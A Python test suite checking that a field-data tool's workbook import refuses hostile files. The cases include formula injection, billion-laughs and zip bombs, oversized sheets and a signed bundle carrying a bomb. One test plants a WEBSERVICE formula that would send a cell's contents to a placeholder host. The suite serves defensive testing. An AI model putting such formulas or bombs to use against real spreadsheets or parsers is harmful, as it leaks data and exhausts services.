"""Hostile files handed to `fieldkit import` (issue 5): each is refused in one
clear line naming the file (and sheet, row, column where it applies), the
process never shows a traceback, memory stays bounded, and the database file
is byte-identical afterwards (sha256 of the .db, taken after the process exits).
"""

from __future__ import annotations

import hashlib
import os
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from fieldkit import demo, records
from fieldkit.sync import transfer
from fieldkit.sync.workbook import export_workbook, import_workbooks
from fieldkit.sync.workbook.columns import columns
from fieldkit.workspace import open_database
from tests.databases import copy_db
from tests.hostile import files

# Run the CLI and report the process's own peak memory (VmHWM) to a file.
_PEAK = (
    "import atexit, os, re, sys\n"
    "def _peak():\n"
    "    status = open('/proc/self/status').read()\n"
    "    kb = re.search(r'VmHWM:\\s+(\\d+)', status).group(1)\n"
    "    open(os.environ['FIELDKIT_PEAK_FILE'], 'w').write(kb)\n"
    "atexit.register(_peak)\n"
    "from fieldkit.cli.main import main\n"
    "sys.exit(main())\n"
)
MEMORY_BOUND_MB = 400
PERSON_COLUMNS = len(columns(records.get("person")))


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def run_import(
    db: Path, *paths: Path, peak: Path | None = None
) -> subprocess.CompletedProcess[str]:
    """`fieldkit --db DB import PATHS` in its own process; with *peak*, the
    process writes its peak memory (VmHWM, kB) there as it exits."""
    env = dict(os.environ)
    command = [sys.executable, "-m", "fieldkit"]
    if peak is not None:
        env["FIELDKIT_PEAK_FILE"] = str(peak)
        command = [sys.executable, "-c", _PEAK]
    return subprocess.run(
        [*command, "--db", str(db), "import", *map(str, paths)],
        capture_output=True,
        text=True,
        timeout=300,
        env=env,
    )


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """A small demo database (closed) and a real export of it."""
    folder = tmp_path_factory.mktemp("hostile")
    path = folder / "field.db"
    db = open_database(path)
    demo.fill(db, 30, seed=3)
    workbook = folder / "records.xlsx"
    export_workbook(db, workbook)
    db.close()
    return path, workbook


@pytest.fixture
def field_db(exported: tuple[Path, Path], tmp_path: Path) -> Path:
    """A copy of the demo database for one test (the export already logged in it)."""
    path = tmp_path / "db" / "field.db"
    path.parent.mkdir()
    copy_db(exported[0], path)
    return path


def refused(db: Path, bad: Path, *where: str, peak: Path | None = None) -> str:
    """Import *bad* with the CLI: one line on stderr naming the file and *where*,
    exit 1, no traceback, the database byte-identical, no backup made."""
    before = digest(db)
    out = run_import(db, bad, peak=peak)
    lines = out.stderr.strip().splitlines()
    assert out.returncode == 1, out.stdout + out.stderr
    assert "Traceback" not in out.stderr and len(lines) == 1, out.stderr
    line = lines[0]
    assert line.startswith("fieldkit: import refused: ") and line.endswith("nothing was imported")
    assert bad.name in line, line
    for part in where:
        assert part in line, line
    assert digest(db) == before
    assert not Path(f"{db}-wal").exists() or Path(f"{db}-wal").stat().st_size == 0
    assert not (db.parent / "backups").exists()
    return line


def peak_mb(peak: Path) -> float:
    return int(peak.read_text()) / 1024


def test_a_formula_in_a_data_column_is_refused_at_its_cell(
    exported: tuple[Path, Path], field_db: Path, tmp_path: Path
) -> None:
    bad = tmp_path / "formula.xlsx"
    wb = load_workbook(exported[1])
    ws = wb["person"]
    col = next(c.column for c in ws[1] if c.value == "household_size")
    ws.cell(4, col).value = '=WEBSERVICE("http://example.invalid/?"&H4)'
    wb.save(bad)
    line = refused(field_db, bad, "sheet person", "row 4", "(household_size)")
    assert "a formula is not data" in line


def test_wrong_types_and_unknown_codes_are_each_named(
    exported: tuple[Path, Path], field_db: Path, tmp_path: Path
) -> None:
    bad = tmp_path / "types.xlsx"
    wb = load_workbook(exported[1])
    ws = wb["person"]
    col = {c.value: c.column for c in ws[1] if c.value}
    letter = {c.value: c.column_letter for c in ws[1] if c.value}
    ws.cell(3, col["household_size"]).value = "many"
    ws.cell(4, col["birth_year"]).value = "nineteen eighty"
    ws.cell(5, col["sex"]).value = "zz_unknown"
    ws.cell(5, col["consent_date"]).value = "the day after"
    wb.save(bad)
    before = digest(field_db)
    out = run_import(field_db, bad)
    assert out.returncode == 1 and "Traceback" not in out.stderr
    assert out.stderr.strip() == (
        f"fieldkit: import refused: 4 problems, the first: {bad}, sheet person, row 3, "
        f"column {letter['household_size']} (household_size): 'many' is not a number; "
        "nothing was imported"
    )
    # Every problem is listed on stdout, each at its cell.
    for where in (
        f"row 3, column {letter['household_size']} (household_size): 'many' is not a number",
        f"row 4, column {letter['birth_year']} (birth_year): 'nineteen eighty' is not a number",
        f"row 5, column {letter['sex']} (sex): 'zz_unknown' is not one of",
        f"row 5, column {letter['consent_date']} (consent_date): 'the day after' is not a date",
    ):
        assert f"rejected: {bad}, sheet person, {where}" in out.stdout, out.stdout
    assert digest(field_db) == before


@pytest.mark.parametrize(
    ("kind", "content"),
    [
        ("pdf", b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"),
        ("text", "Ad, soyad; Laçın\nƏliyev Həsən; 1972\n".encode()),
        ("empty", b""),
    ],
    ids=["pdf", "text", "empty"],
)
def test_a_file_that_is_not_a_workbook_is_refused(
    field_db: Path, tmp_path: Path, kind: str, content: bytes
) -> None:
    bad = tmp_path / f"renamed-{kind}.xlsx"
    bad.write_bytes(content)
    line = refused(field_db, bad)
    assert "not a readable .xlsx workbook" in line


def test_a_truncated_workbook_is_refused(
    exported: tuple[Path, Path], field_db: Path, tmp_path: Path
) -> None:
    data = exported[1].read_bytes()
    for i, keep in enumerate((len(data) // 2, len(data) - 30, 100)):
        bad = tmp_path / f"truncated-{i}.xlsx"
        bad.write_bytes(data[:keep])
        line = refused(field_db, bad)
        assert "not a readable .xlsx workbook" in line or "damaged" in line, line


def test_an_entity_expansion_bomb_is_refused_at_once(
    exported: tuple[Path, Path], field_db: Path, tmp_path: Path
) -> None:
    bad = files.billion_laughs(exported[1], tmp_path / "laughs.xlsx")
    peak = tmp_path / "peak"
    started = time.perf_counter()
    line = refused(field_db, bad, "sheet person", peak=peak)
    assert "entity-expansion bomb" in line
    assert time.perf_counter() - started < 30
    assert peak_mb(peak) < MEMORY_BOUND_MB


def test_a_zip_bomb_is_refused_without_inflating_it(
    exported: tuple[Path, Path], field_db: Path, tmp_path: Path
) -> None:
    bad = files.zip_bomb(exported[1], tmp_path / "bomb.xlsx")  # 3 GiB unpacked, 3 MB on disk
    with zipfile.ZipFile(bad) as z:
        assert max(i.file_size for i in z.infolist()) == 3 * 1024**3
    peak = tmp_path / "peak"
    started = time.perf_counter()
    line = refused(field_db, bad, peak=peak)
    assert "zip bomb" in line
    assert time.perf_counter() - started < 30
    assert peak_mb(peak) < MEMORY_BOUND_MB


def test_a_zip_bomb_whose_header_lies_is_caught_while_streaming(
    exported: tuple[Path, Path], field_db: Path, tmp_path: Path
) -> None:
    # 600 MB of spaces in the person sheet, declared as 40 KB: reading stops at
    # the declared size, where the checksum does not match.
    bad = files.zip_bomb(exported[1], tmp_path / "liar.xlsx", size=600 * 1024**2, declare=40_000)
    peak = tmp_path / "peak"
    line = refused(field_db, bad, peak=peak)
    assert "damaged (Bad CRC-32 for file 'xl/worksheets/sheet6.xml')" in line
    assert peak_mb(peak) < MEMORY_BOUND_MB


def test_cells_spanning_a_vast_area_are_refused(
    exported: tuple[Path, Path], field_db: Path, tmp_path: Path
) -> None:
    # One extra cell far away: a grid reader would ask for half a terabyte.
    part = files.sheet_part(exported[1], "person")
    with zipfile.ZipFile(exported[1]) as z:
        xml = z.read(part)
    at = xml.index(b"</sheetData>")
    for name, cell in (
        ("corner.xlsx", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
        ("wide.xlsx", b'<row r="90000"><c r="XFD90000"><v>1</v></c></row>'),
    ):
        bad = files.rewrite(exported[1], tmp_path / name, {part: xml[:at] + cell + xml[at:]})
        peak = tmp_path / f"{name}.peak"
        line = refused(field_db, bad, "sheet person", peak=peak)
        assert "rows" in line
        assert peak_mb(peak) < MEMORY_BOUND_MB


def test_a_million_rows_are_refused_early_with_bounded_memory(
    exported: tuple[Path, Path], field_db: Path, tmp_path: Path
) -> None:
    bad = files.many_rows(exported[1], tmp_path / "million.xlsx", 1_000_000)
    peak = tmp_path / "peak"
    started = time.perf_counter()
    line = refused(field_db, bad, "sheet person", peak=peak)
    took = time.perf_counter() - started
    assert "sheet person spans" in line and f"rows by {PERSON_COLUMNS} columns" in line
    assert took < 30, took
    assert peak_mb(peak) < MEMORY_BOUND_MB
    print(f"million rows: refused in {took:.1f} s, peak {peak_mb(peak):.0f} MB")


def _core_refuses(db_path: Path, bad: Path, *where: str) -> Any:
    before = digest(db_path)
    db = open_database(db_path)
    try:
        result = import_workbooks(db, [bad])
        assert not result.applied and result.rejects
        text = str(result.rejects[0])
        assert text.startswith(str(bad))
        for part in where:
            assert part in text, text
        bundle_result = transfer.import_files(db, [bad])
        assert not bundle_result.applied and bundle_result.rejects
    finally:
        db.close()
    assert digest(db_path) == before
    return result


def test_the_core_import_refuses_damaged_files_and_changes_nothing(
    exported: tuple[Path, Path], field_db: Path, tmp_path: Path
) -> None:
    """import_workbooks and transfer.import_files, in process: rejects, not exceptions."""
    data = exported[1].read_bytes()
    cases: list[tuple[Path, tuple[str, ...]]] = []
    for name, content in (
        ("half.xlsx", data[: len(data) // 2]),
        ("pdf.xlsx", b"%PDF-1.4\n%%EOF\n"),
        ("empty.xlsx", b""),
    ):
        (tmp_path / name).write_bytes(content)
        cases.append((tmp_path / name, ()))
    wb = load_workbook(exported[1])
    ws = wb["person"]
    col = {c.value: c.column for c in ws[1] if c.value}
    ws.cell(3, col["notes"]).value = "=1+1"
    ws.cell(4, col["sex"]).value = "zz_unknown"
    wb.save(tmp_path / "edited.xlsx")
    notes = f"column {get_column_letter(col['notes'])} (notes)"
    cases.append((tmp_path / "edited.xlsx", ("sheet person", "row 3", notes)))
    for bad, where in cases:
        _core_refuses(field_db, bad, *where)


_CORE_IMPORT = (
    "import re, sys\n"
    "from fieldkit.workspace import open_database\n"
    "from fieldkit.sync.workbook import import_workbooks\n"
    "db = open_database(sys.argv[1])\n"
    "result = import_workbooks(db, [sys.argv[2]])\n"
    "db.close()\n"
    "print(result.applied)\n"
    "print(result.rejects[0] if result.rejects else '')\n"
    "print(re.search(r'VmHWM:\\s+(\\d+)', open('/proc/self/status').read()).group(1))\n"
)


def test_the_core_import_refuses_bombs_and_vast_sheets_in_bounded_memory(
    exported: tuple[Path, Path], field_db: Path, tmp_path: Path
) -> None:
    """import_workbooks itself (what the Sync screen calls), in its own process to
    measure its peak: a reject naming the file, never an exception or a crash."""
    part = files.sheet_part(exported[1], "person")
    with zipfile.ZipFile(exported[1]) as z:
        xml = z.read(part)
    at = xml.index(b"</sheetData>")
    corner = xml[:at] + b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>' + xml[at:]
    cases = {
        "laughs.xlsx": (lambda p: files.billion_laughs(exported[1], p), "entity-expansion bomb"),
        "bomb.xlsx": (lambda p: files.zip_bomb(exported[1], p), "zip bomb"),
        "corner.xlsx": (lambda p: files.rewrite(exported[1], p, {part: corner}), "rows"),
        "million.xlsx": (
            lambda p: files.many_rows(exported[1], p, 1_000_000),
            f"rows by {PERSON_COLUMNS} columns",
        ),
    }
    before = digest(field_db)
    for name, (build, why) in cases.items():
        bad = build(tmp_path / name)
        out = subprocess.run(
            [sys.executable, "-c", _CORE_IMPORT, str(field_db), str(bad)],
            capture_output=True,
            text=True,
            timeout=300,
        )
        assert out.returncode == 0 and not out.stderr, out.stderr
        applied, reject, peak = out.stdout.splitlines()
        assert applied == "False"
        assert reject.startswith(f"{bad}: ") and why in reject, reject
        assert int(peak) / 1024 < MEMORY_BOUND_MB, (name, peak)
        assert digest(field_db) == before


def test_a_signed_bundle_carrying_a_hostile_workbook_is_refused(
    exported: tuple[Path, Path], field_db: Path, tmp_path: Path
) -> None:
    """The signature says who sent it, not that it is safe: a volunteer's laptop
    may itself have been handed a bomb. The workbook inside is refused like a
    loose one, named bundle/workbook."""
    from fieldkit.sync import bundle, keys
    from fieldkit.sync.bundle import BundleError

    db = open_database(field_db)
    try:
        key = keys.private_key(db)  # the sender is this very laptop: trusted
        transfer_sender = {"device_id": db.device_id, "name": "Laçın laptop"}
    finally:
        db.close()
    for name, build in (
        ("laughs", lambda p: files.billion_laughs(exported[1], p)),
        ("bomb", lambda p: files.zip_bomb(exported[1], p)),
    ):
        inner = build(tmp_path / f"{name}.xlsx")
        evil = bundle.write(
            tmp_path / f"{name}.fkb",
            {"records.xlsx": inner.read_bytes()},
            kind="field-to-hq",
            sender=transfer_sender,
            private_key=key,
        )
        before = digest(field_db)
        db = open_database(field_db)
        try:
            result = transfer.import_files(db, [evil], enrol=True)
            message = str(result.rejects[0]) if result.rejects else "applied!"
        except BundleError as exc:  # transfer.UnsafeFile: refused before reading
            message = str(exc)
        finally:
            db.close()
        assert message.startswith(f"{name}.fkb/records.xlsx: "), message
        assert digest(field_db) == before
